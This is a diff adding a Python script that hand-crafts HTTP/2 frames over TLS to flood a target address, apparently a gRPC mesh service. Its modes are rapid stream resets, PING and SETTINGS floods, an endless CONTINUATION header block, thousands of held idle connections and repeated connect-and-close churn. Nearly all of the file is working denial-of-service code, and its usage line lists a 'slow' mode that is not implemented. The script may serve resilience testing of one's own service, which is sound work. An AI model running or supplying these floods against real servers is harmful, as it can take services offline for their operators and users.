@@ -1,0 +1,118 @@
+"""Floods against a party's address, over sockets, TLS and HTTP/2 frames by hand (RFC 9113): what no library would send.
+   floods.py ADDRESS KIND SECONDS [KEY PEM]    KIND: resets, pings, continuation, settings, idle, connect, slow; without KEY and PEM as a stranger
+Prints what was sent, as JSON."""
+import json
+import socket
+import ssl
+import struct
+import sys
+import time
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def literal(name, value):
+    """HPACK, never indexed, without Huffman."""
+    return b"\x10" + bytes([len(name)]) + name + bytes([len(value)]) + value
+
+
+REQUEST = (literal(b":method", b"POST") + literal(b":scheme", b"https") + literal(b":path", b"/parley.mesh.Mesh/Deliver") + literal(b":authority", b"x")
+           + literal(b"te", b"trailers") + literal(b"content-type", b"application/grpc"))
+
+
+def connection(address, identity):
+    host, port = address.rsplit(":", 1)
+    raw = socket.create_connection((host, int(port)), timeout=10)
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    context.set_alpn_protocols(["h2"])
+    if identity:
+        context.load_cert_chain(identity[1], identity[0])
+    tls = context.wrap_socket(raw)
+    tls.sendall(PREFACE + frame(SETTINGS, 0, 0))
+    return tls
+
+
+def frames(kind):
+    """Endless blocks of bytes for one connection."""
+    if kind == "resets":
+        stream = 1
+        while stream < 2**31 - 200:
+            yield b"".join(frame(HEADERS, 4, s, REQUEST) + frame(RST_STREAM, 0, s, struct.pack(">I", 8)) for s in range(stream, stream + 200, 2))
+            stream += 200
+    if kind == "pings":
+        while True:
+            yield frame(PING, 0, 0, bytes(8)) * 500
+    if kind == "settings":
+        while True:
+            yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535) * 8) * 200
+    if kind == "continuation":  # a header block that never ends
+        yield frame(HEADERS, 0, 1, REQUEST)
+        while True:
+            yield frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100) * 100)
+
+
+def pour(address, kind, end, identity):
+    """One connection after the other; whoever is refused comes again."""
+    sent = connections = 0
+    while time.monotonic() < end:
+        try:
+            with connection(address, identity) as tls:
+                connections += 1
+                tls.settimeout(1)
+                for block in frames(kind):
+                    if time.monotonic() >= end:
+                        break
+                    try:
+                        tls.sendall(block)
+                        sent += len(block)
+                    except TimeoutError:  # the other side reads slowly; what was half sent ends this connection
+                        break
+        except OSError:
+            time.sleep(0.002)
+    return {"sent": sent, "connections": connections}
+
+
+def hold(address, end, most=3000):
+    """Connections that say nothing, as many as there may be, held until the end."""
+    held, connections = [], 0
+    host, port = address.rsplit(":", 1)
+    while time.monotonic() < end:
+        if len(held) < most:
+            try:
+                held.append(socket.create_connection((host, int(port)), timeout=1))
+                connections += 1
+            except OSError:
+                time.sleep(0.01)
+        else:
+            time.sleep(0.05)
+    return {"connections": connections}
+
+
+def knock(address, end):
+    """Connects and leaves, again and again."""
+    connections = 0
+    host, port = address.rsplit(":", 1)
+    while time.monotonic() < end:
+        try:
+            socket.create_connection((host, int(port)), timeout=1).close()
+            connections += 1
+        except OSError:
+            pass
+    return {"connections": connections}
+
+
+def main():
+    address, kind, seconds, *identity = sys.argv[1:]
+    end = time.monotonic() + float(seconds)
+    print(json.dumps(hold(address, end) if kind == "idle" else knock(address, end) if kind == "connect" else pour(address, kind, end, identity)))
+
+
+if __name__ == "__main__":
+    main()
